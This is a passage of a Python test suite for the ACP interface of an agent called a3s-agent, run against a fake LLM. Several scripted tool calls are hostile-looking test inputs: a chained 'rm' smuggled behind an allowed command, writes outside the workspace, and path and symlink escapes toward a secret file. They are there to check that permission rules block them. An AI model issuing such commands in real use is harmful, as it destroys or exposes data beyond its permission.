"""The ACP face through a real pipe: `a3s-agent acp` as a subprocess, driven the way an editor
drives it by the ACP SDK's client side (and, for the framing, by hand), against the fake LLM over
real HTTP. What the editor sees (session updates, permission requests, its buffers and terminals)
and what the model sees (the fake's recorded requests) are both checked."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import sys
import time
from collections import deque
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import IO, Any

import aiohttp
import pytest
from acp import PROTOCOL_VERSION, RequestError, spawn_agent_process, text_block
from acp.client.connection import ClientSideConnection
from acp.schema import (
    AgentMessageChunk,
    AgentPlanUpdate,
    AllowedOutcome,
    ClientCapabilities,
    ContentToolCallContent,
    CreateTerminalResponse,
    DeniedOutcome,
    EmbeddedResourceContentBlock,
    EnvVariable,
    FileEditToolCallContent,
    FileSystemCapabilities,
    ImageContentBlock,
    Implementation,
    McpServerStdio,
    PermissionOption,
    ReadTextFileResponse,
    RequestPermissionResponse,
    ResourceContentBlock,
    SessionInfoUpdate,
    TerminalExitStatus,
    TerminalOutputResponse,
    TextContentBlock,
    TextResourceContents,
    ToolCallProgress,
    ToolCallStart,
    ToolCallUpdate,
    UsageUpdate,
    UserMessageChunk,
    WaitForTerminalExitResponse,
    WriteTextFileResponse,
)

from a3s_agent import faces
from a3s_agent.app import Application
from a3s_agent.app.permissions import always_rule
from a3s_agent.config import Settings
from a3s_agent.faces.acp.content import PromptBlock
from a3s_agent.faces.acp.permissions import options
from a3s_agent.faces.http import start_http
from a3s_agent.proto import code_agent_pb2 as pb
from a3s_agent.testing.fake_anthropic import FakeAnthropic
from a3s_agent.testing.fake_llm import FakeLLM, hang, text, tool_call

from .conftest import MCP_FIXTURE, eventually, running
from .test_face_boundaries import runtime_imports, runtime_reaches

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


class Terminal:
    def __init__(self, process: asyncio.subprocess.Process) -> None:
        self.process = process
        self.output = b""
        self.pump = asyncio.create_task(self._pump())

    async def _pump(self) -> None:
        assert self.process.stdout is not None
        while chunk := await self.process.stdout.read(4096):
            self.output += chunk


class Editor:
    """The editor's end: records every update; answers permission requests as scripted (an
    option id, or "wait" until the test says the turn was cancelled); when given `buffers`,
    offers fs/* over them (unsaved text: nothing reaches the disk); with `terminals`, runs
    terminal/* commands as subprocesses."""

    def __init__(
        self, answers: Iterable[str] = (), buffers: dict[str, str] | None = None, terminals: bool = False
    ) -> None:
        self.updates: list[Any] = []
        self.answers = deque(answers)
        self.asked: list[tuple[ToolCallUpdate, list[PermissionOption]]] = []
        self.cancelled = asyncio.Event()
        self.buffers = buffers
        self.reads: list[str] = []
        self.writes: list[str] = []
        self.offers_terminals = terminals
        self.terminals: dict[str, Terminal] = {}
        self.terminal_requests: list[tuple[str, list[str], str | None, list[EnvVariable]]] = []

    def capabilities(self) -> ClientCapabilities:
        offered = self.buffers is not None
        return ClientCapabilities(
            fs=FileSystemCapabilities(read_text_file=offered, write_text_file=offered),
            terminal=self.offers_terminals,
        )

    async def session_update(self, session_id: str, update: Any, **kwargs: Any) -> None:
        self.updates.append(update)

    async def request_permission(
        self, session_id: str, tool_call: ToolCallUpdate, options: list[PermissionOption], **kwargs: Any
    ) -> RequestPermissionResponse:
        self.asked.append((tool_call, options))
        answer = self.answers.popleft()  # an unexpected request fails the call (and the test)
        if answer == "wait":
            await self.cancelled.wait()
            return RequestPermissionResponse(outcome=DeniedOutcome(outcome="cancelled"))
        return RequestPermissionResponse(outcome=AllowedOutcome(outcome="selected", option_id=answer))

    async def read_text_file(self, session_id: str, path: str, **kwargs: Any) -> ReadTextFileResponse:
        assert self.buffers is not None
        self.reads.append(path)
        if path not in self.buffers:
            raise RequestError.resource_not_found(path)
        return ReadTextFileResponse(content=self.buffers[path])

    async def write_text_file(
        self, session_id: str, path: str, content: str, **kwargs: Any
    ) -> WriteTextFileResponse:
        assert self.buffers is not None
        self.writes.append(path)
        self.buffers[path] = content
        return WriteTextFileResponse()

    async def create_terminal(
        self,
        session_id: str,
        command: str,
        args: list[str] | None = None,
        env: list[EnvVariable] | None = None,
        cwd: str | None = None,
        **kwargs: Any,
    ) -> CreateTerminalResponse:
        self.terminal_requests.append((command, list(args or []), cwd, list(env or [])))
        process = await asyncio.create_subprocess_exec(
            command, *(args or []), cwd=cwd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        terminal_id = f"term-{len(self.terminals) + 1}"
        self.terminals[terminal_id] = Terminal(process)
        return CreateTerminalResponse(terminal_id=terminal_id)

    async def wait_for_terminal_exit(
        self, session_id: str, terminal_id: str, **kwargs: Any
    ) -> WaitForTerminalExitResponse:
        terminal = self.terminals[terminal_id]
        code = await terminal.process.wait()
        await terminal.pump
        return WaitForTerminalExitResponse(exit_code=code)

    async def terminal_output(
        self, session_id: str, terminal_id: str, **kwargs: Any
    ) -> TerminalOutputResponse:
        terminal = self.terminals[terminal_id]
        code = terminal.process.returncode
        return TerminalOutputResponse(
            output=terminal.output.decode(),
            truncated=False,
            exit_status=TerminalExitStatus(exit_code=code) if code is not None else None,
        )

    async def kill_terminal(self, session_id: str, terminal_id: str, **kwargs: Any) -> None:
        process = self.terminals[terminal_id].process
        if process.returncode is None:
            process.kill()

    async def release_terminal(self, session_id: str, terminal_id: str, **kwargs: Any) -> None:
        await self.kill_terminal(session_id, terminal_id)

    # --- reading what was sent -------------------------------------------------------------

    def of(self, kind: type) -> list[Any]:
        return [u for u in self.updates if isinstance(u, kind)]

    def call_updates(self, tool_call_id: str) -> list[ToolCallStart | ToolCallProgress]:
        return [
            u
            for u in self.updates
            if isinstance(u, ToolCallStart | ToolCallProgress) and u.tool_call_id == tool_call_id
        ]

    def last_text(self, tool_call_id: str) -> str:
        """The text the call's last update ends with: its output or its error."""
        content = self.call_updates(tool_call_id)[-1].content or []
        assert content and isinstance(content[-1], ContentToolCallContent), content
        assert isinstance(content[-1].content, TextContentBlock), content
        return content[-1].content.text

    def statuses(self, tool_call_id: str) -> list[str]:
        return [u.status for u in self.call_updates(tool_call_id) if u.status is not None]

    def answer_text(self) -> str:
        return "".join(u.content.text for u in self.of(AgentMessageChunk))


def agent_env(fake: FakeLLM | FakeAnthropic, data_dir: Path) -> dict[str, str]:
    env = {name: value for name, value in os.environ.items() if not name.startswith("A3S_")}
    return {
        **env,
        "A3S_LLM_MODEL": "fake-model",
        "A3S_LLM_BASE_URL": fake.base_url,
        "A3S_LLM_API_KEY": "sk-test",
        "A3S_LLM_RETRIES": "0",
        "A3S_DATA_DIR": str(data_dir),
    }


@asynccontextmanager
async def acp_agent(
    editor: Editor,
    workspace: Path,
    fake: FakeLLM | FakeAnthropic,
    data_dir: Path,
    *flags: str,
    env: dict[str, str] | None = None,
) -> AsyncIterator[ClientSideConnection]:
    """`a3s-agent acp` in `workspace`, initialized by `editor`; its stderr goes to data_dir's side;
    `env` adds to (or overrides) the model's settings."""
    with open(f"{data_dir}.stderr.log", "a") as stderr:
        async with spawn_agent_process(
            # acp looks an editor's methods up by name: this one leaves out those it does not serve
            # (elicitation, extension methods), which the Client protocol lists
            editor,  # type: ignore[arg-type]
            sys.executable,
            "-m",
            "a3s_agent",
            "acp",
            *flags,
            env={**agent_env(fake, data_dir), **(env or {})},
            cwd=workspace,
            transport_kwargs={"stderr": stderr.fileno()},
        ) as (conn, _):
            await conn.initialize(
                protocol_version=PROTOCOL_VERSION,
                client_capabilities=editor.capabilities(),
                client_info=Implementation(name="test-editor", version="1.0"),
            )
            yield conn


async def test_a_prompt_reports_its_plan_tool_calls_diffs_and_answer(workspace: Path, tmp_path: Path) -> None:
    notes = workspace / "notes.txt"
    notes.write_text("alpha\n")
    plan = {"entries": [{"content": "Read the notes", "status": "completed"},
                        {"content": "Fix them", "status": "in_progress", "priority": "high"}]}  # fmt: skip
    edit = {"path": "notes.txt", "old_string": "alpha", "new_string": "beta"}
    async with FakeLLM(
        tool_call("update_plan", plan, id="plan"),
        tool_call("read_file", {"path": "notes.txt"}, id="read"),
        tool_call("edit_file", edit, id="edit"),
        text("Fixed the notes."),
    ) as fake:
        editor = Editor(answers=["allow-once"])
        async with acp_agent(editor, workspace, fake, tmp_path / "data") as conn:
            session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
            reply = await conn.prompt(session_id=session.session_id, prompt=[text_block("Fix the notes")])

    assert reply.stop_reason == "end_turn"
    assert notes.read_text() == "beta\n"  # no fs capability offered: the disk
    offered = {tool["function"]["name"] for tool in fake.requests[0].tools or []}
    assert {"update_plan", "read_file", "edit_file", "bash"} <= offered and "ask_user" not in offered
    # The plan, as the session's plan rather than a tool call.
    [shown_plan] = editor.of(AgentPlanUpdate)
    assert [(e.content, e.status, e.priority) for e in shown_plan.entries] == [
        ("Read the notes", "completed", "medium"),
        ("Fix them", "in_progress", "high"),
    ]
    assert not editor.call_updates("plan")
    # A read: allowed unasked, pending then completed with what the model read.
    read = editor.call_updates("read")
    assert (
        isinstance(read[0], ToolCallStart)
        and read[0].kind == "read"
        and read[0].title == "read_file notes.txt"
    )
    assert [loc.path for loc in read[0].locations or []] == [str(notes)]
    assert editor.statuses("read")[0] == "pending" and editor.statuses("read")[-1] == "completed"
    assert "alpha" in editor.last_text("read")
    # An edit: its diff from the start, asked about (with the diff), then run.
    start = editor.call_updates("edit")[0]
    assert start.kind == "edit" and start.status == "pending" and start.raw_input == edit
    [diff] = start.content or []
    assert isinstance(diff, FileEditToolCallContent)
    assert (diff.type, diff.path, diff.old_text, diff.new_text) == ("diff", str(notes), "alpha", "beta")
    [(asked, options)] = editor.asked
    assert asked.tool_call_id == "edit" and asked.content == start.content
    assert [(o.option_id, o.kind) for o in options] == [
        ("allow-once", "allow_once"), ("allow-always", "allow_always"), ("reject-once", "reject_once")
    ]  # fmt: skip
    assert options[1].name == "Always allow edit_file"
    assert editor.statuses("edit") == ["pending", "in_progress", "completed"]
    assert [c.type for c in editor.call_updates("edit")[-1].content or []][:1] == ["diff"]
    # The answer, the usage of each model turn, and a title for the session.
    assert editor.answer_text() == "Fixed the notes."
    usage = editor.of(UsageUpdate)
    assert len(usage) == 4 and all(0 < u.used <= u.size for u in usage)
    assert [u.title for u in editor.of(SessionInfoUpdate)] == ["Fix the notes"]


async def test_reject_allow_always_and_a_reload_after_restart(workspace: Path, tmp_path: Path) -> None:
    """Rejected calls do not run; allow always adds a stored rule; a new process replays the
    session (session/load) and its rule still holds; the session is an ordinary stored one."""
    data = tmp_path / "data"
    async with FakeLLM(
        tool_call("bash", {"command": "touch rejected.txt"}, id="no"),
        text("Not made."),
        tool_call("bash", {"command": "touch allowed.txt"}, id="yes"),
        text("Made."),
        tool_call("bash", {"command": "touch again.txt"}, id="again"),
        text("Made again, unasked."),
        tool_call("bash", {"command": "touch sneaky.txt && rm allowed.txt"}, id="sneaky"),
        text("Not that."),
    ) as fake:
        editor = Editor(answers=["reject-once", "allow-always"])
        async with acp_agent(editor, workspace, fake, data) as conn:
            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[])).session_id
            first = await conn.prompt(session_id=session_id, prompt=[text_block("Make a file")])
            second = await conn.prompt(session_id=session_id, prompt=[text_block("Make it anyway")])
        assert (first.stop_reason, second.stop_reason) == ("end_turn", "end_turn")
        assert not (workspace / "rejected.txt").exists() and (workspace / "allowed.txt").exists()
        assert editor.statuses("no")[-1] == "failed"
        assert "rejected by user" in editor.last_text("no")
        assert editor.asked[1][1][1].name == "Always allow bash(touch:*)"

        # Another process on the same data dir: the editor lists and loads the session.
        again = Editor(answers=["reject-once"])  # for the one call the rule does not cover
        async with acp_agent(again, workspace, fake, data) as conn:
            listed = await conn.list_sessions(cwd=str(workspace))
            assert [(s.session_id, s.title, s.cwd) for s in listed.sessions] == [
                (session_id, "Make a file", str(workspace))
            ]
            assert (await conn.list_sessions(cwd=str(tmp_path))).sessions == []
            await conn.load_session(cwd=str(workspace), session_id=session_id, mcp_servers=[])
            replayed = list(again.updates)
            before = len(fake.requests)
            third = await conn.prompt(session_id=session_id, prompt=[text_block("And once more")])
            assert not again.asked  # the stored rule allows `touch`
            fourth = await conn.prompt(session_id=session_id, prompt=[text_block("And tidy up")])
        assert third.stop_reason == "end_turn" and (workspace / "again.txt").exists()
        assert again.statuses("again")[-1] == "completed"
        # The rule covers `touch`, not a command that also does something else: that one asks.
        assert fourth.stop_reason == "end_turn" and [c.tool_call_id for c, _ in again.asked] == ["sneaky"]
        assert (workspace / "allowed.txt").exists() and not (workspace / "sneaky.txt").exists()

    shown = [(type(u).__name__, getattr(u, "status", None)) for u in replayed]
    assert shown == [
        ("UserMessageChunk", None), ("ToolCallStart", "pending"), ("ToolCallProgress", "failed"),
        ("AgentMessageChunk", None),
        ("UserMessageChunk", None), ("ToolCallStart", "pending"), ("ToolCallProgress", "completed"),
        ("AgentMessageChunk", None),
    ]  # fmt: skip
    assert [u.content.text for u in replayed if isinstance(u, UserMessageChunk)] == [
        "Make a file",
        "Make it anyway",
    ]
    assert replayed[1].title == "bash touch rejected.txt" and replayed[1].kind == "execute"
    assert [u.content.text for u in replayed if isinstance(u, AgentMessageChunk)] == ["Not made.", "Made."]
    # The model got the stored conversation in the new process.
    roles = [m["role"] for m in fake.requests[before].messages]
    assert roles == ["system", "user", "assistant", "tool", "assistant", "user", "assistant", "tool",
                     "assistant", "user"]  # fmt: skip

    # An ordinary stored session: the server sees it over gRPC and HTTP.
    settings = Settings(listen="127.0.0.1:0", workspace=workspace, data_dir=data)
    async with running(settings) as server:
        got = await server.stub.GetSession(pb.GetSessionRequest(session_id=session_id))
        assert got.session.config.name == "Make a file" and got.session.context_usage.message_count == 16
        listener = await start_http(Application(server.runtime), "127.0.0.1:0")
        try:
            url = f"http://127.0.0.1:{listener.port}/sessions/{session_id}"
            async with aiohttp.ClientSession() as client, client.get(url) as reply:
                assert reply.status == 200, await reply.text()
                assert (await reply.json())["session"]["session_id"] == session_id
        finally:
            await listener.stop()


async def test_always_allowing_a_program_does_not_allow_where_it_writes(
    workspace: Path, tmp_path: Path
) -> None:
    """Always allow `bash(echo:*)`, then echo writing outside the workspace, or into it through
    tee, asks again (and is rejected here); echo alone runs unasked."""
    outside = tmp_path / "pwned.txt"
    async with FakeLLM(
        tool_call("bash", {"command": "echo hello"}, id="first"),
        text("Said it."),
        tool_call("bash", {"command": f"echo pwned > {outside}"}, id="outside"),
        text("Not that."),
        tool_call("bash", {"command": "echo pwned | tee notes.txt"}, id="tee"),
        text("Not that either."),
        tool_call("bash", {"command": "echo again 2>&1"}, id="again"),
        text("Said again."),
    ) as fake:
        editor = Editor(answers=["allow-always", "reject-once", "reject-once"])
        async with acp_agent(editor, workspace, fake, tmp_path / "data") as conn:
            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[])).session_id
            for prompt in ("Say hello", "Write outside", "Write a note", "Say it again"):
                reply = await conn.prompt(session_id=session_id, prompt=[text_block(prompt)])
                assert reply.stop_reason == "end_turn"
    assert editor.asked[0][1][1].name == "Always allow bash(echo:*)"
    assert [call.tool_call_id for call, _ in editor.asked] == ["first", "outside", "tee"]
    assert not outside.exists() and not (workspace / "notes.txt").exists()
    assert [o.option_id for o in editor.asked[1][1]] == ["allow-once", "reject-once"]
    assert editor.statuses("again")[-1] == "completed"


def _sleeping(seconds: str) -> bool:
    """Whether a `sleep <seconds>` process runs on this machine."""
    for entry in Path("/proc").iterdir():
        try:
            if (entry / "cmdline").read_bytes() == f"sleep\0{seconds}\0".encode():
                return True
        except OSError:
            continue
    return False


async def test_cancel_mid_tool_and_while_asking(workspace: Path, tmp_path: Path) -> None:
    async with FakeLLM(
        tool_call("bash", {"command": "sleep 37"}, id="slow"),
        text("Going on after the cancel."),
        tool_call("bash", {"command": "sleep 38"}, id="asking"),
    ) as fake:
        editor = Editor(answers=["allow-once", "wait"])
        async with acp_agent(editor, workspace, fake, tmp_path / "data") as conn:
            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[])).session_id
            prompt = asyncio.create_task(conn.prompt(session_id=session_id, prompt=[text_block("Wait")]))
            await eventually(
                lambda: "in_progress" in editor.statuses("slow") and _sleeping("37"), "the sleep runs"
            )
            started = time.monotonic()
            await conn.cancel(session_id=session_id)
            assert (await asyncio.wait_for(prompt, 10)).stop_reason == "cancelled"
            assert time.monotonic() - started < 5
            assert editor.statuses("slow")[-1] == "failed"
            await eventually(lambda: not _sleeping("37"), "the cancelled command is killed")
            # The session goes on: the cancelled call was answered in its history.
            after = await conn.prompt(session_id=session_id, prompt=[text_block("Go on")])
            assert after.stop_reason == "end_turn" and editor.answer_text().endswith(
                "Going on after the cancel."
            )
            # Cancelled while the editor asks its user: the editor answers "cancelled", the turn ends.
            prompt = asyncio.create_task(conn.prompt(session_id=session_id, prompt=[text_block("Ask")]))
            await eventually(lambda: len(editor.asked) == 2, "the permission request")
            await conn.cancel(session_id=session_id)
            editor.cancelled.set()
            assert (await asyncio.wait_for(prompt, 10)).stop_reason == "cancelled"
            assert editor.statuses("asking")[-1] == "failed" and not _sleeping("38")
    tool_results = [m for m in fake.requests[1].messages if m["role"] == "tool"]
    assert tool_results[0]["content"].startswith("error: cancelled")


async def test_files_and_commands_go_through_the_editor_when_it_offers_them(
    workspace: Path, tmp_path: Path
) -> None:
    notes = workspace / "notes.txt"
    notes.write_text("disk text\n")
    (tmp_path / "outside.txt").write_text("secret\n")
    (workspace / "link.txt").symlink_to(tmp_path / "outside.txt")
    (workspace / "pixel.png").write_bytes(PNG)
    buffers = {str(notes): "buffer text\n"}
    async with FakeLLM(
        tool_call("read_file", {"path": "notes.txt"}, id="read"),
        tool_call(
            "edit_file", {"path": "notes.txt", "old_string": "buffer", "new_string": "edited"}, id="edit"
        ),
        tool_call("write_file", {"path": "sub/new.txt", "content": "fresh\n"}, id="write"),
        tool_call("bash", {"command": "echo from-the-terminal"}, id="run"),
        tool_call("read_file", {"path": "../outside.txt"}, id="escape"),
        tool_call("read_file", {"path": str(tmp_path / "outside.txt")}, id="absolute"),
        tool_call("read_file", {"path": "link.txt"}, id="link"),
        tool_call("read_file", {"path": "pixel.png"}, id="image"),
        text("Done."),
    ) as fake:
        editor = Editor(answers=["allow-once"] * 3, buffers=buffers, terminals=True)
        async with acp_agent(editor, workspace, fake, tmp_path / "data") as conn:
            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[])).session_id
            reply = await conn.prompt(session_id=session_id, prompt=[text_block("Edit the notes")])
    assert reply.stop_reason == "end_turn"
    results = {m["tool_call_id"]: m["content"] for m in fake.requests[-1].messages if m["role"] == "tool"}
    # The model read the editor's buffer, and the edit changed the buffer, not the disk.
    assert "buffer text" in results["read"] and "disk text" not in results["read"]
    assert buffers[str(notes)] == "edited text\n" and notes.read_text() == "disk text\n"
    assert (
        buffers[str(workspace / "sub" / "new.txt")] == "fresh\n" and not (workspace / "sub/new.txt").exists()
    )
    assert editor.writes == [str(notes), str(workspace / "sub" / "new.txt")]
    # The command ran in the editor's terminal, shown in its tool call.
    [(command, args, cwd, _)] = editor.terminal_requests
    assert (command, args, cwd) == ("bash", ["-c", "echo from-the-terminal"], str(workspace))
    terminal = [c for u in editor.call_updates("run") for c in (u.content or []) if c.type == "terminal"]
    assert terminal and terminal[0].terminal_id == "term-1"
    assert "from-the-terminal" in results["run"] and editor.statuses("run")[-1] == "completed"
    # Paths out of the workspace are refused before the editor is asked.
    for escape in ("escape", "absolute", "link"):
        assert "outside the workspace" in results[escape] and "secret" not in results[escape]
    # An image is read from the disk (the editor has text only), and shown in the tool call.
    assert "image" in str(results["image"])
    shown = [c.content for c in editor.call_updates("image")[-1].content or [] if c.content.type == "image"]
    assert shown and base64.b64decode(shown[0].data) == PNG
    assert editor.reads == [str(notes), str(notes)]


async def test_no_editor_tools_keeps_files_and_commands_on_the_disk(workspace: Path, tmp_path: Path) -> None:
    notes = workspace / "notes.txt"
    notes.write_text("disk text\n")
    async with FakeLLM(
        tool_call("read_file", {"path": "notes.txt"}, id="read"),
        tool_call("bash", {"command": "echo on-our-side"}, id="run"),
        text("Done."),
    ) as fake:
        editor = Editor(answers=["allow-once"], buffers={str(notes): "buffer text\n"}, terminals=True)
        async with acp_agent(editor, workspace, fake, tmp_path / "data", "--no-editor-tools") as conn:
            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[])).session_id
            await conn.prompt(session_id=session_id, prompt=[text_block("Read")])
    results = {m["tool_call_id"]: m["content"] for m in fake.requests[-1].messages if m["role"] == "tool"}
    assert "disk text" in results["read"] and "on-our-side" in results["run"]
    assert not editor.reads and not editor.terminal_requests


async def test_prompt_content_blocks_reach_the_model_and_replay(workspace: Path, tmp_path: Path) -> None:
    spec = workspace / "spec.md"
    blocks: list[PromptBlock] = [
        text_block("Compare "),
        ResourceContentBlock(type="resource_link", name="spec.md", uri=spec.as_uri()),
        text_block(" with this:"),
        EmbeddedResourceContentBlock(
            type="resource",
            resource=TextResourceContents(
                uri="file:///tmp/x.py", text="print('x')\n", mime_type="text/x-python"
            ),
        ),
        ImageContentBlock(type="image", data=base64.b64encode(PNG).decode(), mime_type="image/png"),
    ]
    async with FakeLLM(text("Seen.")) as fake:
        editor = Editor()
        async with acp_agent(editor, workspace, fake, tmp_path / "data") as conn:
            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[])).session_id
            await conn.prompt(session_id=session_id, prompt=blocks)
            with pytest.raises(RequestError) as refused:
                await conn.prompt(session_id=session_id, prompt=[])
            editor.updates.clear()
            await conn.load_session(cwd=str(workspace), session_id=session_id, mcp_servers=[])
    assert refused.value.code == -32602
    parts = fake.requests[0].messages[-1]["content"]
    assert parts[0] == {"type": "text", "text": f"Compare [@spec.md]({spec.as_uri()}) with this:"}
    assert (
        parts[1]["type"] == "text"
        and "print('x')" in parts[1]["text"]
        and "file:///tmp/x.py" in parts[1]["text"]
    )
    assert parts[2] == {
        "type": "image_url",
        "image_url": {"url": "data:image/png;base64," + base64.b64encode(PNG).decode()},
    }
    chunks = [u.content for u in editor.of(UserMessageChunk)]
    assert [c.type for c in chunks] == ["text", "resource", "image"]
    assert chunks[1].resource.text == "print('x')\n" and base64.b64decode(chunks[2].data) == PNG


async def _exchange(proc: asyncio.subprocess.Process, message: dict[str, Any]) -> dict[str, Any]:
    assert proc.stdin is not None and proc.stdout is not None
    proc.stdin.write(json.dumps(message).encode() + b"\n")
    await proc.stdin.drain()
    while True:
        line = await asyncio.wait_for(proc.stdout.readline(), 30)
        answer = json.loads(line)  # every line on stdout is one JSON-RPC message
        assert answer["jsonrpc"] == "2.0"
        if answer.get("id") == message["id"]:
            return answer


async def test_the_wire_newline_delimited_json_rpc_and_its_errors(workspace: Path, tmp_path: Path) -> None:
    """By hand, as any ACP client: one JSON-RPC message per stdout line (logs go to stderr), and
    each refusal with the code ACP gives it."""
    async with FakeLLM() as fake:
        stderr = open(tmp_path / "stderr.log", "w")  # noqa: SIM115 (kept open for the process)
        proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "a3s_agent", "acp", "--log-level", "DEBUG",
            cwd=workspace, env=agent_env(fake, tmp_path / "data"),
            stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=stderr,
        )  # fmt: skip
        try:
            init = await _exchange(proc, {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                                          "params": {"protocolVersion": 1}})  # fmt: skip
            capabilities = init["result"]["agentCapabilities"]
            assert init["result"]["protocolVersion"] == 1 and capabilities["loadSession"] is True
            assert capabilities["promptCapabilities"] == {
                "image": True,
                "audio": False,
                "embeddedContext": True,
            }
            assert set(capabilities["sessionCapabilities"]) == {"list", "resume", "close", "fork"}
            assert init["result"]["authMethods"] == [] and init["result"]["agentInfo"]["name"] == "a3s-agent"

            async def error_of(request_id: int, method: str, params: dict[str, Any]) -> dict[str, Any]:
                reply = await _exchange(
                    proc, {"jsonrpc": "2.0", "id": request_id, "method": method, "params": params}
                )
                assert "error" in reply, reply
                return reply["error"]

            assert (await error_of(2, "session/fork", {"sessionId": "x", "cwd": str(workspace)}))[
                "code"
            ] == -32002
            outside = await error_of(3, "session/new", {"cwd": str(tmp_path), "mcpServers": []})
            assert outside["code"] == -32602 and "outside the workspace root" in outside["message"]
            unknown = await error_of(
                4, "session/load", {"sessionId": "nope", "cwd": str(workspace), "mcpServers": []}
            )
            assert unknown["code"] == -32002 and unknown["data"] == {"status": "NOT_FOUND"}
            assert (await error_of(5, "session/list", {"cursor": "not-ours"}))["code"] == -32602
            created = await _exchange(proc, {"jsonrpc": "2.0", "id": 6, "method": "session/new",
                                             "params": {"cwd": str(workspace), "mcpServers": []}})  # fmt: skip
            session_id = created["result"]["sessionId"]
            resumed = await _exchange(proc, {"jsonrpc": "2.0", "id": 7, "method": "session/resume",
                                             "params": {"sessionId": session_id, "cwd": str(workspace)}})  # fmt: skip
            assert resumed["result"] == {}
            closed = await _exchange(proc, {"jsonrpc": "2.0", "id": 8, "method": "session/close",
                                            "params": {"sessionId": session_id}})  # fmt: skip
            assert closed["result"] == {}
        finally:
            assert proc.stdin is not None
            proc.stdin.close()  # end of input: the agent stops
            assert await asyncio.wait_for(proc.wait(), 15) == 0
            stderr.close()
    logged = (tmp_path / "stderr.log").read_text()
    assert "rpc session/new" in logged and "runtime ready" in logged


def _request(request_id: int, method: str, params: dict[str, Any]) -> bytes:
    return (
        json.dumps({"jsonrpc": "2.0", "id": request_id, "method": method, "params": params}).encode() + b"\n"
    )


def _requests(workspace: Path) -> bytes:
    """initialize and session/new, as a client would pipe them in before reading any answer, after
    lines that are no request (skipped: none ends the connection)."""
    garbage = b"not json\n[1, 2]\n\n"
    return (
        garbage
        + _request(1, "initialize", {"protocolVersion": 1})
        + _request(2, "session/new", {"cwd": str(workspace), "mcpServers": []})
    )


def _answers(output: bytes) -> dict[Any, dict[str, Any]]:
    """The answers among the JSON-RPC messages on the agent's stdout, by id."""
    messages = [json.loads(line) for line in output.splitlines() if line.strip()]
    return {m["id"]: m for m in messages if "method" not in m}


async def _acp_process(
    workspace: Path,
    fake: FakeLLM,
    tmp_path: Path,
    stderr: IO[str],
    stdin: Any = asyncio.subprocess.PIPE,
    stdout: Any = asyncio.subprocess.PIPE,
) -> asyncio.subprocess.Process:
    """`a3s-agent acp` in `workspace` with stdin and stdout as given (pipes unless files are)."""
    return await asyncio.create_subprocess_exec(
        sys.executable, "-m", "a3s_agent", "acp",
        cwd=workspace, env=agent_env(fake, tmp_path / "data"), stdin=stdin, stdout=stdout, stderr=stderr,
    )  # fmt: skip


async def test_requests_piped_in_before_stdin_closes_are_all_answered(
    workspace: Path, tmp_path: Path
) -> None:
    """stdin ends right after the requests: each is answered (session/new too) before the exit."""
    async with FakeLLM() as fake:
        with open(tmp_path / "stderr.log", "w") as stderr:
            proc = await _acp_process(workspace, fake, tmp_path, stderr)
            output, _ = await asyncio.wait_for(proc.communicate(_requests(workspace)), 60)
    answers = _answers(output)
    assert set(answers) == {1, 2}, (output, (tmp_path / "stderr.log").read_text()[-2000:])
    assert answers[1]["result"]["protocolVersion"] == 1 and answers[2]["result"]["sessionId"]
    assert proc.returncode == 0


async def test_stdin_and_stdout_may_be_regular_files(workspace: Path, tmp_path: Path) -> None:
    """`a3s-agent acp < requests.jsonl > answers.jsonl`: files, not pipes, on both ends."""
    (tmp_path / "requests.jsonl").write_bytes(_requests(workspace))
    async with FakeLLM() as fake:
        with (
            open(tmp_path / "requests.jsonl", "rb") as stdin,
            open(tmp_path / "answers.jsonl", "wb") as stdout,
            open(tmp_path / "stderr.log", "w") as stderr,
        ):
            proc = await _acp_process(workspace, fake, tmp_path, stderr, stdin, stdout)
            code = await asyncio.wait_for(proc.wait(), 60)
    logged = (tmp_path / "stderr.log").read_text()
    assert code == 0, logged[-2000:]
    answers = _answers((tmp_path / "answers.jsonl").read_bytes())
    assert set(answers) == {1, 2} and answers[2]["result"]["sessionId"], logged[-2000:]


async def test_a_prompt_running_when_stdin_closes_is_answered_cancelled(
    workspace: Path, tmp_path: Path
) -> None:
    """The client went away mid-turn: the turn stops and its request still gets its answer."""
    async with FakeLLM() as fake:
        fake.script(hang())
        with open(tmp_path / "stderr.log", "w") as stderr:
            proc = await _acp_process(workspace, fake, tmp_path, stderr)
            assert proc.stdin is not None and proc.stdout is not None
            await _exchange(
                proc, {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": 1}}
            )
            new = {"cwd": str(workspace), "mcpServers": []}
            created = await _exchange(
                proc, {"jsonrpc": "2.0", "id": 2, "method": "session/new", "params": new}
            )
            prompt = [{"type": "text", "text": "hi"}]
            proc.stdin.write(
                _request(3, "session/prompt", {"sessionId": created["result"]["sessionId"], "prompt": prompt})
            )
            await eventually(lambda: fake.requests, "the model was asked")
            proc.stdin.close()
            rest = await asyncio.wait_for(proc.stdout.read(), 60)
            code = await asyncio.wait_for(proc.wait(), 60)
    answer = _answers(rest)[3]["result"]
    assert answer["stopReason"] == "cancelled", rest
    assert answer["_meta"]["a3s"]["checkpoint"] > 0  # the turn's checkpoint undoes what it began
    assert code == 0


async def test_the_editors_mcp_servers_serve_the_session(workspace: Path, tmp_path: Path) -> None:
    """A stdio MCP server the editor passes in session/new (a real one, tests/mcp_fixture.py) is
    the session's: its tools reach the model, ask like any tool, and their images show."""
    fixture = McpServerStdio(
        name="fixture",
        command=sys.executable,
        args=[str(MCP_FIXTURE), "stdio"],
        env=[],
    )
    async with FakeLLM(
        tool_call("mcp__fixture__echo", {"text": "hi"}, id="echo"),
        tool_call("mcp__fixture__picture", {}, id="picture"),
        text("Echoed."),
    ) as fake:
